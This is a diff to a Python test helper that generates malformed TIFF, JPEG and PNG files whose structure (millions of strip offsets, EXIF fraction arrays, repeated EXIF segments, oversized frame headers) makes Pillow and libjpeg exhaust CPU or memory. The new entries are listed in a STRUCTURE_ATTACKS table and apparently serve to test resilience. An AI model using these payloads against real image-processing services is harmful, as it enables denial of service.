@@ -88,16 +88,65 @@ def noise_jpeg(approx_bytes: int, seed: int = 0) -> bytes:
 # Files whose structure, not their pixels, is the attack: millions of entries that Pillow's
 # parsers walk through one at a time in Python (ml/file_layout.py), or a decoder that does.
 
-def tiff_strip_offsets(count: int, side: int = 64) -> bytes:
+def _ifd(entries) -> bytes:
+    """A little-endian TIFF IFD of (tag, type, count, value or offset) entries, no next IFD."""
+    return (struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", *entry) for entry in entries)
+            + struct.pack("<I", 0))
+
+
+def tiff_strip_offsets(count: int, side: int = 64, field_type: int = 4) -> bytes:
     """An uncompressed side x side greyscale TIFF whose StripOffsets array lists ``count``
-    entries, all pointing at the same strip: Pillow makes a decoding tile for each."""
+    entries (LONG, or ``field_type`` 1: BYTE), all pointing at the same strip: Pillow makes a
+    decoding tile for each."""
     pixels_at = 8 + 2 + 12 * 8 + 4
     offsets_at = pixels_at + side * side
-    entries = [(256, 3, 1, side), (257, 3, 1, side), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1),
-               (273, 4, count, offsets_at), (278, 3, 1, 1), (279, 4, 1, side)]
-    ifd = struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", *entry) for entry in entries)
-    return (b"II*\x00" + struct.pack("<I", 8) + ifd + struct.pack("<I", 0) + bytes(side * side)
-            + struct.pack("<I", pixels_at) * count)
+    offset = struct.pack("<I", pixels_at) if field_type == 4 else bytes([pixels_at % 256])
+    ifd = _ifd([(256, 3, 1, side), (257, 3, 1, side), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1),
+                (273, field_type, count, offsets_at), (278, 3, 1, 1), (279, 4, 1, side)])
+    return b"II*\x00" + struct.pack("<I", 8) + ifd + bytes(side * side) + offset * count
+
+
+def exif_fractions(count: int) -> bytes:
+    """An EXIF block (a TIFF structure) whose orientation tag holds ``count`` fractions (RATIONAL):
+    Pillow unpacks them all when the decoder reads the orientation."""
+    return b"II*\x00" + struct.pack("<I", 8) + _ifd([(0x0112, 5, count, 8 + 18)]) + bytes(8 * count)
+
+
+def tiff_exif_fractions(count: int, side: int = 64) -> bytes:
+    """An uncompressed TIFF whose Exif IFD holds one tag of ``count`` fractions: Pillow unpacks
+    it after decoding."""
+    pixels_at = 8 + 2 + 12 * 8 + 4
+    exif_at = pixels_at + side * side
+    ifd = _ifd([(256, 3, 1, side), (257, 3, 1, side), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1),
+                (273, 4, 1, pixels_at), (279, 4, 1, side * side), (34665, 4, 1, exif_at)])
+    sub = _ifd([(0x829A, 5, count, exif_at + 18)])  # ExposureTime
+    return b"II*\x00" + struct.pack("<I", 8) + ifd + bytes(side * side) + sub + bytes(8 * count)
+
+
+def _jpeg_segment(marker: int, payload: bytes) -> bytes:
+    return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload
+
+
+def jpeg_exif_segments(count: int, size: int = 64) -> bytes:
+    """A small JPEG with ``count`` EXIF segments of ``size`` bytes: Pillow joins each to a copy of
+    those before it."""
+    jpeg = encoded_blank(64, 64, "JPEG")
+    segment = _jpeg_segment(0xE1, b"Exif\x00\x00" + bytes(size))
+    return jpeg[:2] + segment * count + jpeg[2:]
+
+
+def jpeg_frame_headers(count: int) -> bytes:
+    """A small JPEG with ``count`` extra frame headers (SOF0), each 64 KB of component entries
+    (its count says 3): Pillow keeps a layer for every 3 bytes of every one."""
+    jpeg = encoded_blank(64, 64, "JPEG")
+    sof = _jpeg_segment(0xC0, struct.pack(">BHHB", 8, 64, 64, 3) + bytes([1, 0x11, 0]) * 21_842)
+    return jpeg[:2] + sof * count + jpeg[2:]
+
+
+def png_exif_fractions(count: int) -> bytes:
+    """A small PNG whose eXIf chunk holds one tag of ``count`` fractions."""
+    png = encoded_blank(64, 64, "PNG")
+    return png[:33] + _png_chunk(b"eXIf", exif_fractions(count)) + png[33:]
 
 
 def gif_comment_blocks(count: int) -> bytes:
@@ -137,18 +186,15 @@ def jpeg_scan_per_component(width: int, height: int, components: int = 3) -> byt
     """A baseline JPEG of width x height, all coefficients zero, each colour component in a scan of
     its own: libjpeg keeps every coefficient of the full image until the last scan, as for a
     progressive JPEG."""
-    def segment(marker: int, payload: bytes) -> bytes:
-        return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload
-
     one_code = bytes([1] + [0] * 15) + b"\x00"  # a Huffman table: symbol 0 has the code '0'
-    data = b"\xff\xd8" + segment(0xDB, b"\x00" + bytes([1] * 64))
-    data += segment(0xC0, struct.pack(">BHHB", 8, height, width, components)
+    data = b"\xff\xd8" + _jpeg_segment(0xDB, b"\x00" + bytes([1] * 64))
+    data += _jpeg_segment(0xC0, struct.pack(">BHHB", 8, height, width, components)
                     + b"".join(bytes([c + 1, 0x11, 0]) for c in range(components)))
-    data += segment(0xC4, b"\x00" + one_code) + segment(0xC4, b"\x10" + one_code)
+    data += _jpeg_segment(0xC4, b"\x00" + one_code) + _jpeg_segment(0xC4, b"\x10" + one_code)
     blocks = -(-width // 8) * -(-height // 8)
     scan = bytes(-(-2 * blocks // 8))  # per block, DC difference 0 and end of block: 2 bits
     for c in range(components):
-        data += segment(0xDA, bytes([1, c + 1, 0x00, 0x00, 0x3F, 0x00])) + scan
+        data += _jpeg_segment(0xDA, bytes([1, c + 1, 0x00, 0x00, 0x3F, 0x00])) + scan
     return data + b"\xff\xd9"
 
 
@@ -163,4 +209,10 @@ STRUCTURE_ATTACKS = {
     "RLE BMP 14000x797, every row ended early (4 KB)": ("x.bmp", lambda: bmp_rle_end_of_lines(14000, 797)),
     "baseline JPEG 6324x6324, a scan per component (630 KB)": (
         "x.jpg", lambda: jpeg_scan_per_component(6324, 6324, 4)),
+    "TIFF, 2.6 million strip offsets typed BYTE (2.6 MB)": (
+        "x.tif", lambda: tiff_strip_offsets(2_600_000, field_type=1)),
+    "TIFF, an Exif IFD of 1.25 million fractions (10 MB)": ("x.tif", lambda: tiff_exif_fractions(1_250_000)),
+    "PNG, an eXIf chunk of 1.25 million fractions (10 MB)": ("x.png", lambda: png_exif_fractions(1_250_000)),
+    "JPEG, 62,500 EXIF segments of 64 bytes (4.5 MB)": ("x.jpg", lambda: jpeg_exif_segments(62_500)),
+    "JPEG, 150 frame headers of 64 KB (9.8 MB)": ("x.jpg", lambda: jpeg_frame_headers(150)),
 }
